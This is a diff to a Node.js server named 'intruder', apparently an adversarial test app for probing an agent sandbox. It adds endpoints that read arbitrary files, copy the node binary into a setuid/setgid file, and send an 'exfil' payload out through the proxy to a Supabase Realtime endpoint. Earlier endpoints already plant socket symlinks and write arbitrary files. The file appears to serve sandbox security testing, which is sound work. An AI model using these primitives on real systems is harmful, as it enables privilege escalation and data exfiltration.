@@ -3,6 +3,10 @@
 // GET /plant-socket?target=P         put a symlink to P wherever the agent's socket could be
 // GET /write?path=P&data=D           write D into the file P (directories created)
 // GET /list?path=P                   the names under directory P, recursively, at most 500
+// GET /read?path=P                   the file P's contents (NULs shown as spaces)
+// GET /setuid?path=P                 copy node to P and make it setuid and setgid
+// GET /broadcast?topic=T            broadcast on T through the Realtime REST API with the anon key
+//                                    (through HTTP_PROXY, the only way out)
 // GET /headers                       the request's headers, as the app sees them
 // GET /seen                          every request and websocket upgrade the app has received
 const http = require('http')
@@ -57,10 +61,30 @@ function list(dir, depth = 6) {
 
 const seen = []
 
+function broadcast(topic) {
+  return new Promise((resolve) => {
+    const proxy = new URL(process.env.HTTP_PROXY)
+    const target = `${process.env.SUPABASE_URL.replace(/\/$/, '')}/realtime/v1/api/broadcast`
+    const body = JSON.stringify({ messages: [{ topic, event: 'exfil', payload: { secret: 'from the sandbox' } }] })
+    const request = http.request({
+      host: proxy.hostname, port: proxy.port, method: 'POST', path: target,
+      headers: { host: new URL(target).host, apikey: process.env.SUPABASE_ANON_KEY,
+                 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) },
+    }, (res) => {
+      let text = ''
+      res.on('data', (c) => (text += c))
+      res.on('end', () => resolve({ status: res.statusCode, body: text }))
+    })
+    request.on('error', (e) => resolve({ status: 0, error: e.code }))
+    request.end(body)
+  })
+}
+
 function answer(url, req) {
   const q = url.searchParams
   switch (url.pathname) {
     case '/headers': return req.headers
+    case '/broadcast': return broadcast(q.get('topic'))
     case '/seen': return { seen }
     case '/whoami': return { project: process.env.PROJECT_ID }
     case '/plant-socket': return plantSocket(q.get('target'))
@@ -69,6 +93,14 @@ function answer(url, req) {
       fs.writeFileSync(q.get('path'), q.get('data') || '')
     })
     case '/list': return { names: list(q.get('path')) }
+    case '/setuid': return attempt(() => {
+      fs.mkdirSync(path.dirname(q.get('path')), { recursive: true })
+      fs.copyFileSync(process.execPath, q.get('path'))
+      fs.chmodSync(q.get('path'), 0o6755)
+    })
+    case '/read': try {
+      return { ok: true, text: fs.readFileSync(q.get('path'), 'latin1').replace(/\0/g, ' ') }
+    } catch (e) { return { ok: false, error: e.code } }
     default: return { hello: 'intruder' }
   }
 }
@@ -81,8 +113,10 @@ const server = http.createServer((req, res) => {
     res.end('<!doctype html><title>intruder</title><p>intruder</p>')
     return
   }
-  res.setHeader('content-type', 'application/json')
-  res.end(JSON.stringify(answer(url, req)))
+  Promise.resolve(answer(url, req)).then((result) => {
+    res.setHeader('content-type', 'application/json')
+    res.end(JSON.stringify(result))
+  })
 })
 server.on('upgrade', (req, socket) => {
   seen.push(`UPGRADE ${req.url}`)
